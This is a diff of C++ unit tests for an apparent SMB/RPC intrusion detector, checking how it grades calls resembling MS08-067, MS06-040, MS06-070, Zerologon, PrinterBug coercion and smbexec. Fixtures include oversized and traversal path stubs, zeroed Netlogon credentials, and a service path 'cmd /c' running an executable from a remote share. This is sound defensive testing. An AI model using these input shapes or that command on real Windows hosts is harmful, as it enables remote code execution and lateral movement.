@@ -17,18 +17,45 @@ using tests::Stub;
 
 class Calls : public ::testing::Test {
  protected:
-    void call(std::string_view interface, std::uint16_t opnum, core::ByteVector stub) {
+    void call(std::string_view interface, std::uint16_t opnum, core::ByteVector stub,
+              std::uint8_t auth_level = 0, bool is_cut = false) {
         const wire::RpcInterface* known = wire::find_rpc_interface(interface);
         ASSERT_NE(known, nullptr) << interface;
         wire::RpcMessage message;
         message.opnum = opnum;
         message.interface = wire::SyntaxId{known->uuid, known->major, known->minor};
         message.stub = std::move(stub);
+        message.auth_level = auth_level;
+        message.is_cut = is_cut;
         notes.begin_message(1000, {});
         judge_call(message, {80, "pipe"}, memory, notes);
     }
-    static core::ByteVector canonicalize(std::u16string_view path) {
-        return Stub{}.u32(0).string(path).u32(500).string(u"\\").u32(1).u32(0).bytes();
+    void sealed(std::string_view interface, std::uint16_t opnum) {
+        // [MS-RPCE] 2.2.1.1.8: packet privacy; the stub is no plain text.
+        call(interface, opnum, core::ByteVector(64, 0xA7), 6);
+    }
+    static core::ByteVector canonicalize(std::u16string_view path,
+                                         std::u16string_view prefix = u"\\") {
+        return Stub{}.u32(0).string(path).u32(500).string(prefix).u32(1).u32(0).bytes();
+    }
+    // [MS-WKST] NetrJoinDomain2: the password, a salt of 8 bytes, 512 and a length, makes every stub long.
+    static core::ByteVector join(std::u16string_view domain, std::u16string_view unit,
+                                 std::u16string_view account) {
+        return Stub{}
+            .u32(0)
+            .string(domain)
+            .unique_string(unit)
+            .align(4)
+            .unique_string(account)
+            .align(4)
+            .u32(0x20004)
+            .raw(core::ByteVector(524, 0x5C))
+            .u32(1)
+            .bytes();
+    }
+    // [MS-RPRN] RpcRemoteFindFirstPrinterChangeNotificationEx: hPrinter, fdwFlags, fdwOptions, pszLocalMachine.
+    static core::ByteVector notify(std::u16string_view machine) {
+        return Stub{}.handle().u32(0x100).u32(0).unique_string(machine).bytes();
     }
     static core::ByteVector create_service(std::u16string_view name, std::u16string_view program) {
         return Stub{}
@@ -85,6 +112,136 @@ TEST_F(Calls, APlainPathCallIsNoMoreThanThat) {
     call("srvsvc", 31, canonicalize(u"\\share\\file"));
     EXPECT_EQ(notes.so_far().stage, Stage::probe);
     EXPECT_TRUE(notes.has(rules::path_call));
+}
+
+TEST_F(Calls, EclipsedWingsWalkIsMs08067) {
+    std::u16string path;
+    for (int i = 0; i < 40; ++i) path += u"./A/../";  // smb.md 1.13: same class as 1.11
+    call("srvsvc", 31, canonicalize(path));
+    EXPECT_EQ(notes.grade_of(rules::ms08_067), Grade::likely);
+    EXPECT_FALSE(notes.has(rules::ms06_040));
+}
+
+TEST_F(Calls, AnUnusualPrefixIsJudgedToo) {
+    const std::u16string unusual = u"\\" + std::u16string(300, u'\x4141');
+    call("srvsvc", 31, canonicalize(u"\\a", unusual));
+    EXPECT_EQ(notes.grade_of(rules::ms06_040), Grade::likely);
+    const auto& evidence = notes.so_far().labels[0].evidence;
+    ASSERT_EQ(evidence.size(), 1u);
+    // ServerName 4, the path's counts 12 and 6 bytes, 2 to align, OutbufLen 4, the Prefix's counts 12.
+    EXPECT_EQ(evidence[0].offset, 1080u + 40);
+    EXPECT_EQ(evidence[0].length, 2u * 302);
+    call("srvsvc", 31, canonicalize(u"\\..\\..\\AAAA", unusual));
+    EXPECT_EQ(notes.grade_of(rules::ms08_067), Grade::likely);
+    EXPECT_NE(notes.told().sentence.find("which together climb above their root"),
+              std::string::npos);
+}
+
+TEST_F(Calls, ALongUnusualPathIsConsistentWithMs06040) {
+    call("srvsvc", 31, canonicalize(std::u16string(300, u'\x4141')));
+    EXPECT_EQ(notes.grade_of(rules::ms06_040), Grade::consistent);
+}
+
+TEST_F(Calls, OfACallThatWasCutNothingIsCertain) {
+    auto stub = canonicalize(u"\\" + std::u16string(250, u'\x9090') + u"\\..\\..\\x");
+    stub.resize(60'000);
+    call("srvsvc", 31, stub, 0, true);
+    EXPECT_EQ(notes.grade_of(rules::ms08_067), Grade::likely);
+    EXPECT_NE(notes.told().sentence.find("of which only the beginning was kept"),
+              std::string::npos);
+}
+
+// smb.md 1.9, 1.14: what the number alone says, where the arguments are sealed.
+TEST_F(Calls, ASealedCallIsJudgedByItsNumberAndNeverCertain) {
+    sealed("samr", 13);
+    EXPECT_EQ(notes.so_far().stage, Stage::enumeration);
+    EXPECT_NE(notes.told().sentence.find("called SamrEnumerateUsersInDomain (sealed)"),
+              std::string::npos);
+    sealed("svcctl", 12);
+    EXPECT_EQ(notes.grade_of(rules::service), Grade::likely);
+    sealed("itaskschedulerservice", 1);
+    EXPECT_EQ(notes.grade_of(rules::scheduled_task), Grade::likely);
+    EXPECT_NE(notes.told().sentence.find("registered a task (sealed)"), std::string::npos)
+        << notes.told().sentence;
+    sealed("atsvc", 0);
+    EXPECT_EQ(notes.grade_of(rules::at_job), Grade::likely);
+}
+
+TEST_F(Calls, SealedCallsOfManyUsesStayProbes) {
+    // Print clients, EFS, a service's own start: nothing tells what the arguments are.
+    sealed("spoolss", 65);
+    sealed("efsrpc", 4);
+    sealed("wkssvc", 22);
+    sealed("netlogon", 26);
+    sealed("srvsvc", 31);
+    EXPECT_EQ(notes.so_far().stage, Stage::probe);
+    EXPECT_NE(notes.told().sentence.find("(sealed)"), std::string::npos);
+    sealed("svcctl", 19);
+    EXPECT_EQ(notes.grade_of(rules::service), Grade::consistent);
+}
+
+TEST_F(Calls, ChangingAServicesProgramIsDelivery) {
+    // [MS-SCMR] 3.1.4.11: hService, dwServiceType, dwStartType, dwErrorControl, lpBinaryPathName.
+    const auto change = [](std::u16string_view program) {
+        return Stub{}
+            .handle()
+            .u32(0xFFFFFFFF)
+            .u32(0xFFFFFFFF)
+            .u32(0xFFFFFFFF)
+            .unique_string(program)
+            .bytes();
+    };
+    call("svcctl", 11, Stub{}.handle().u32(0xFFFFFFFF).u32(2).u32(0xFFFFFFFF).u32(0).bytes());
+    EXPECT_EQ(notes.so_far().stage, Stage::enumeration) << "the start type alone";
+    call("svcctl", 11, change(u"C:\\Program Files\\Agent\\agent.exe"));
+    EXPECT_EQ(notes.so_far().stage, Stage::payload_delivery);
+    EXPECT_EQ(notes.grade_of(rules::service_changed), Grade::likely);
+    call("svcctl", 11, change(u"cmd /c \\\\192.0.2.1\\x\\y.exe"));
+    EXPECT_EQ(notes.grade_of(rules::service_changed), Grade::certain);
+    EXPECT_EQ(notes.grade_of(rules::smbexec), Grade::likely);
+}
+
+TEST_F(Calls, RunningATaskIsNotRegisteringOne) {
+    // [MS-TSCH] 3.2.5.4.13: path, then arguments.
+    call("itaskschedulerservice", 12, Stub{}.string(u"\\Updater").u32(0).u32(0).bytes());
+    EXPECT_EQ(notes.grade_of(rules::scheduled_task), Grade::likely);
+    EXPECT_NE(notes.told().sentence.find("ran the task \\Updater"), std::string::npos);
+    call("itaskschedulerservice", 1,
+         Stub{}.unique_string(u"\\Updater").align(4).string(u"<Task/>").bytes());
+    EXPECT_EQ(notes.grade_of(rules::scheduled_task), Grade::certain);
+}
+
+TEST_F(Calls, OnlyANameThatIsTooLongMakesAJoinAnExploit) {
+    call("wkssvc", 22, join(u"EXAMPLE", u"OU=Desktops,DC=example,DC=net", u"EXAMPLE\\joiner"));
+    EXPECT_TRUE(notes.so_far().labels.empty());
+    EXPECT_EQ(notes.so_far().stage, Stage::probe);
+    call("wkssvc", 22, join(u"EXAMPLE", u"OU=x", std::u16string(600, u'A')));
+    EXPECT_EQ(notes.grade_of(rules::ms06_070), Grade::likely);
+    EXPECT_EQ(notes.so_far().labels[0].evidence[0].length, 1200u);
+    EXPECT_NE(notes.told().sentence.find(", AccountName of 600 characters"), std::string::npos);
+    Notes fresh("smb1");
+    notes = fresh;
+    call("wkssvc", 22, join(std::u16string(3000, u'A'), u"", u""));
+    EXPECT_EQ(notes.grade_of(rules::ms06_070), Grade::likely);
+}
+
+// [MS-RPRN] 3.1.4.10.4: pszLocalMachine is the client's name.
+TEST_F(Calls, AReportToTheClientItselfIsWhatPrintClientsAskFor) {
+    call("spoolss", 65, notify(u"\\\\WS17"));
+    EXPECT_EQ(notes.grade_of(rules::printerbug), Grade::consistent) << "who asks is not known";
+    notes.story().fact("smb.workstation", std::string_view("WS17"));
+    call("spoolss", 65, notify(u"\\\\WS17"));
+    EXPECT_EQ(notes.grade_of(rules::printerbug), Grade::consistent);
+    call("spoolss", 65, notify(u"\\\\RELAY"));
+    EXPECT_EQ(notes.grade_of(rules::printerbug), Grade::certain);
+}
+
+TEST_F(Calls, AReportToAThirdAddressIsCoercion) {
+    memory.peers = {core::Address::parse("192.0.2.9"), core::Address::parse("198.51.100.7")};
+    call("spoolss", 65, notify(u"\\\\192.0.2.9"));
+    EXPECT_EQ(notes.grade_of(rules::printerbug), Grade::consistent);
+    call("spoolss", 65, notify(u"\\\\192.0.2.66"));
+    EXPECT_EQ(notes.grade_of(rules::printerbug), Grade::certain);
 }
 
 TEST_F(Calls, AListingCallIsEnumerationAndThreeInterfacesAreABroadOne) {
@@ -172,6 +329,23 @@ TEST_F(Calls, ZerosForChallengeAndCredentialAreZerologon) {
     call("netlogon", 4, Stub{}.u32(0).string(u"DC1").u32(0x11223344).u32(1).bytes());
     EXPECT_FALSE(notes.has(rules::zerologon));
     EXPECT_EQ(notes.so_far().stage, Stage::probe);
+}
+
+TEST_F(Calls, ACredentialOfZerosCountsInEveryAuthenticate) {
+    // [MS-NRPC] 3.5.4.4.2 and what came before it: PrimaryName, AccountName, SecureChannelType, ComputerName, ClientCredential.
+    for (const std::uint16_t opnum : {std::uint16_t{5}, std::uint16_t{15}, std::uint16_t{26}}) {
+        Notes fresh("smb1");
+        notes = fresh;
+        call("netlogon", opnum,
+             Stub{}
+                 .u32(0)
+                 .string(u"DC1$")
+                 .u16(6)
+                 .string(u"DC1")
+                 .raw(core::ByteVector(8, 0))
+                 .bytes());
+        EXPECT_EQ(notes.grade_of(rules::zerologon), Grade::likely) << opnum;
+    }
 }
 
 TEST_F(Calls, AFileOfAnotherHostIsCoercion) {
